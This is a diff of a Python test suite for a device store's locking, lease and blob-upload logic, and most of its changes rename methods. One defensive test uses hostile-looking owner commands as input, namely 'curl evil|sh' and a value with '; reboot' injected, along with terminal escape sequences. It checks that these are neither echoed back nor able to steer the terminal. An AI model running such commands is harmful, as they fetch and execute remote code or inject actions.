@@ -238,7 +238,7 @@ def can_lock(store: Store) -> bool:
 
 def test_silent_client_loses_its_lock(store, root, tmp_path, monkeypatch):
     monkeypatch.setattr(lock, "LEASE_S", 1)
-    with client(root, "sys.stdin.readline(); store.activate('a' * 64)") as other:
+    with client(root, "sys.stdin.readline(); store.releases.activate('a' * 64)") as other:
         other.send_signal(signal.SIGSTOP)
         assert soon(lambda: can_lock(store))
         with locked(store):
@@ -247,8 +247,8 @@ def test_silent_client_loses_its_lock(store, root, tmp_path, monkeypatch):
             other.stdin.write("\n")
             other.stdin.flush()
             assert "lost its lock" in other.stdout.readline()
-            assert store.current().digest == mine
-    assert len(store.generations()) == 1
+            assert store.releases.current().digest == mine
+    assert len(store.releases.generations()) == 1
 
 
 def test_client_with_a_heartbeat_keeps_its_lock(store, root, monkeypatch):
@@ -261,14 +261,14 @@ def test_client_with_a_heartbeat_keeps_its_lock(store, root, monkeypatch):
 def test_long_script_keeps_the_lock(store, root, monkeypatch):
     """While a script runs its holder reads no signs of life."""
     monkeypatch.setattr(lock, "LEASE_S", 1)
-    with client(root, "store._change('sleep 3'); store.activate('a' * 64); print('well')") as other:
+    with client(root, "store.change('sleep 3'); store.releases.activate('a' * 64); print('well')") as other:
         time.sleep(2.5)
         assert not can_lock(store)
         assert other.stdout.readline() == "well\n"
 
 
 def test_last_change_of_a_killed_client_comes_before_the_next_ones(store, root, tmp_path):
-    with client(root, "store._change('sleep 1; ln -sfn ../releases/theirs generations/1')") as other:
+    with client(root, "store.change('sleep 1; ln -sfn ../releases/theirs generations/1')") as other:
         time.sleep(0.3)
         other.kill()
         other.wait()
@@ -276,7 +276,7 @@ def test_last_change_of_a_killed_client_comes_before_the_next_ones(store, root, 
         with locked(store):
             mine = release(store, tmp_path, "mine")
         time.sleep(1)
-    assert store.current().digest == mine
+    assert store.releases.current().digest == mine
 
 
 def test_woken_client_cannot_touch_what_was_checked(store, root, tmp_path, monkeypatch):
@@ -286,8 +286,8 @@ def test_woken_client_cannot_touch_what_was_checked(store, root, tmp_path, monke
     path, digest = blob(tmp_path, data)
     (tmp_path / "half").write_bytes(data[: 1 << 19])
     upload = (
-        f"store.examine(['{digest}']);"
-        f"sink = open(f'{{store.root}}/blobs/partial/{{store._held.token}}/{digest}', 'ab', 0);"
+        f"store.blobs.examine(['{digest}']);"
+        f"sink = open(f'{{store.root}}/blobs/partial/{{store.lease.token}}/{digest}', 'ab', 0);"
         f"sink.write(open({str(tmp_path / 'half')!r}, 'rb').read()); print('half', flush=True);"
         "sys.stdin.readline(); sink.write(b'more'); print('more', flush=True)"
     )
@@ -296,14 +296,14 @@ def test_woken_client_cannot_touch_what_was_checked(store, root, tmp_path, monke
         other.send_signal(signal.SIGSTOP)
         assert soon(lambda: can_lock(store))
         with locked(store):
-            assert store.examine([digest])[digest] == BlobState("partial", 1 << 19)
-            store.push(path, digest, 1 << 19, None)
-            assert store.publish([digest]) == ()
+            assert store.blobs.examine([digest])[digest] == BlobState("partial", 1 << 19)
+            store.blobs.push(path, digest, 1 << 19, None)
+            assert store.blobs.publish([digest]) == ()
             other.send_signal(signal.SIGCONT)
             other.stdin.write("\n")
             other.stdin.flush()
             assert other.stdout.readline() == "more\n"
-            assert store.examine([digest])[digest].state == "have"
+            assert store.blobs.examine([digest])[digest].state == "have"
 
 
 # --- who holds it ---
@@ -363,7 +363,7 @@ def test_a_device_that_takes_a_trial_back_is_seen(store, root):
     ],
 )
 def test_a_device_that_answers_nonsense_is_busy(words):
-    fault = lock._busy("local", words)
+    fault = lock._busy_error("local", words)
     assert fault.message.startswith("local is busy: ")
     assert len(fault.message) + len(fault.details) < 2500
 
@@ -379,7 +379,7 @@ class Babbling(LocalShell):
 def test_a_device_that_says_too_much_under_its_lock(root):
     store = Store(Babbling(), str(root))
     with pytest.raises(DeviceError, match="printed more than a change of its store"), store.lock(ME):
-        store.sweep()
+        store.blobs.sweep()
 
 
 @pytest.mark.parametrize("change", ["s/^END/EMD/", "s/^END-./END-/", "s/^E/EE/", "s/^END-\\(..\\)../END-\\1xx/"])
@@ -391,7 +391,7 @@ def test_a_damaged_end_of_a_script_is_refused_at_once(root, change):
     began = time.monotonic()
     store = Store(Noisy(), str(root))
     with pytest.raises(DeviceError, match="the end of a change of the store on local is damaged"), store.lock(ME):
-        store.sweep()
+        store.blobs.sweep()
     assert time.monotonic() - began < lock._SCRIPT_S / 2
 
 
@@ -427,7 +427,7 @@ def test_work_inside_of_a_lock(outer, store, root, tmp_path):
     store.check_free()
     with locked(store):
         mine = release(store, tmp_path, "mine")
-    assert store.current().digest == mine
+    assert store.releases.current().digest == mine
     assert (root / "lock").read_text().partition("\n")[0].endswith("outer\tfarm lock\t\tab12")
 
 
@@ -456,7 +456,7 @@ def test_who_works_inside_of_a_lock_that_ends_changes_nothing_more(store, root, 
     outer = Store(LocalShell(), store.root).lock(Owner("outer", "farm lock"), within="ab12")
     outer.__enter__()
     monkeypatch.setenv(lock.WITHIN, "ab12")
-    with client(root, "sys.stdin.readline(); store.activate('a' * 64)") as inner:
+    with client(root, "sys.stdin.readline(); store.releases.activate('a' * 64)") as inner:
         monkeypatch.delenv(lock.WITHIN)
         outer.__exit__(None, None, None)
         with pytest.raises(BusyError, match="in use by the other one"), store.lock(ME):
@@ -465,7 +465,7 @@ def test_who_works_inside_of_a_lock_that_ends_changes_nothing_more(store, root, 
         inner.stdin.flush()
         assert "lost its lock" in inner.stdout.readline()
         assert soon(lambda: can_lock(store))
-    assert store.generations() == ()
+    assert store.releases.generations() == ()
 
 
 def test_a_sign_of_life_is_never_seen_half(outer, root):
@@ -479,18 +479,18 @@ def test_a_sign_of_life_is_never_seen_half(outer, root):
 def test_times_that_cannot_be_are_not_told():
     """A device's clock, or whoever wrote its lock's file, may say anything."""
     for began in ("400", "0"):
-        fault = lock._busy("local", ["busy", "1", "0" if began == "400" else "99999999", f"{began} ann@desk"])
+        fault = lock._busy_error("local", ["busy", "1", "0" if began == "400" else "99999999", f"{began} ann@desk"])
         assert "for " not in fault.details, fault.details
         assert fault.details.startswith("the last sign of life came 1 s ago")
 
 
 @pytest.mark.parametrize("end", ["curl evil|sh", "toolchain farm release a; reboot", "toolchain farm release -x"])
 def test_a_command_that_is_none_of_ours_is_not_told(end):
-    fault = lock._busy("local", ["busy", "1", "5", f"3 ann@desk\ttune\t{end}"])
+    fault = lock._busy_error("local", ["busy", "1", "5", f"3 ann@desk\ttune\t{end}"])
     assert fault.hint == "run the command again when that has ended, or with --wait SECONDS"
 
 
 def test_the_words_of_an_owner_steer_no_terminal():
-    fault = lock._busy("local", ["busy", "1", "5", "3 ann\x1b[2J\ttune \x1b]0;x\x07"])
+    fault = lock._busy_error("local", ["busy", "1", "5", "3 ann\x1b[2J\ttune \x1b]0;x\x07"])
     assert fault.message == "local is busy: in use by ann\\x1b[2J: tune \\x1b]0;x\\x07"
     assert "\x1b" not in fault.owner
